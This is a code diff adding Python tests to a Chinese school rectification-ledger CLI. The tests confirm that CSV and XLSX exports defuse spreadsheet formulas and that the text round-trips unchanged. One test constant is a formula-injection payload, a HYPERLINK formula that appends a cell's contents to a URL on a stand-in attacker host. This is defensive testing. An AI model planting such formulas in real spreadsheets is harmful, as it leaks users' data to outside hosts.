@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import json
 import os
 import tempfile
 from pathlib import Path
@@ -340,3 +341,107 @@ def test_xlsx_sheet_by_name(school, tmp_path):
     assert "本文件的工作表：说明、2010年" in fails("import", str(path), "--sheet", "2011年")
     ok("import", str(path), "--sheet", "2010年")
     assert [r["problem"] for r in items()] == ["食堂卫生"]
+
+
+# ---- text a spreadsheet would run as a formula -----------------------------------------
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+FORMULA_LIKE = {"problem": EVIL, "measures": "=按月检查", "leader": "+王校长"}
+
+
+@pytest.mark.no_database
+@given(st.text())
+def test_defuse_then_restore_is_the_identity(text):
+    from dangqun_cli.transfer.formulas import TRIGGERS, defuse, restore
+
+    assert restore(defuse(text)) == text
+    assert not defuse(text).startswith(TRIGGERS)
+    assert restore(defuse(defuse(text))) == defuse(text)
+
+
+@pytest.mark.no_database
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'=1", "''=1"),
+        ("''@x", "'''@x"),
+        ("'普通", "'普通"),
+        ("普通=1", "普通=1"),
+        ("", ""),
+    ],
+)
+def test_defused_cells(text, cell):
+    from dangqun_cli.transfer.formulas import defuse, restore
+
+    assert defuse(text) == cell
+    assert restore(cell) == text
+
+
+def _formula_item() -> int:
+    ok("unit", "add", "教务处")
+    args = ["rectify", "add", "--unit", "教务处", "--owner", "张主任", "--due", "2010-12-31"]
+    for key, text in FORMULA_LIKE.items():
+        args += [f"--{key}", text]
+    return ok(*args).id
+
+
+def test_a_formula_is_exported_as_text(tmp_path):
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    _formula_item()
+    ok("export", "items", "--format", "xlsx", "--output", str(tmp_path / "a.xlsx"))
+    sheet = load_workbook(tmp_path / "a.xlsx").worksheets[0]
+    headers = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(headers, sheet[2], strict=True)}
+    for header, text in (("问题描述", EVIL), ("整改措施", "=按月检查"), ("责任领导", "+王校长")):
+        assert row[header].data_type == "s" and row[header].value == text
+    xml = zipfile.ZipFile(tmp_path / "a.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+
+    ok("export", "items", "--format", "csv", "--output", str(tmp_path / "a.csv"))
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "a.csv").read_text("utf-8-sig"))))
+    assert rows[0]["问题描述"] == "'" + EVIL
+    assert rows[0]["整改措施"] == "'=按月检查"
+    assert rows[0]["责任领导"] == "'+王校长"
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_formula_like_text_comes_back_byte_for_byte(tmp_path, monkeypatch, new_database, fmt):
+    typed = _formula_item()  # rectify add --problem '=HYPERLINK(…)' --measures '=按月检查' …
+    # The fields `rectify add` has no flag for arrive as an office's CSV would bring them.
+    path = tmp_path / "更多.csv"
+    path.write_text(
+        "问题描述,整改措施,责任单位,责任人,整改时限,备注,佐证材料,问题来源\n"
+        "'@全体教师,'-每周一次,教务处,李老师,2010-12-31,'-1 天,'@会议记录,''=引号开头\n",
+        encoding="utf-8",
+    )
+    ok("import", str(path))
+    shown = [ok("rectify", "show", str(i), "--json").json() for i in (typed, typed + 1)]
+    assert {k: shown[0][k] for k in ("problem", "measures", "leader")} == {
+        k: FORMULA_LIKE[k] for k in ("problem", "measures", "leader")
+    }
+    assert (shown[1]["problem"], shown[1]["measures"]) == ("@全体教师", "-每周一次")
+    exported = tmp_path / f"台账.{fmt}"
+    ok("export", "items", "--format", fmt, "--output", str(exported))
+    monkeypatch.setenv("DANGQUN_DB", str(new_database()))
+    ok("import", str(exported), "--create-units")
+    assert [ok("rectify", "show", str(i), "--json").json() for i in (typed, typed + 1)] == shown
+    again = tmp_path / "again.json"
+    ok("export", "items", "--format", "json", "--output", str(again))
+    data = json.loads(again.read_text(encoding="utf-8"))
+    assert {k: data[0][k] for k in ("problem", "measures", "leader")} == {
+        k: FORMULA_LIKE[k] for k in ("problem", "measures", "leader")
+    }
+    assert (data[1]["note"], data[1]["evidence"], data[1]["source"]) == (
+        "-1 天",
+        "@会议记录",
+        "'=引号开头",
+    )
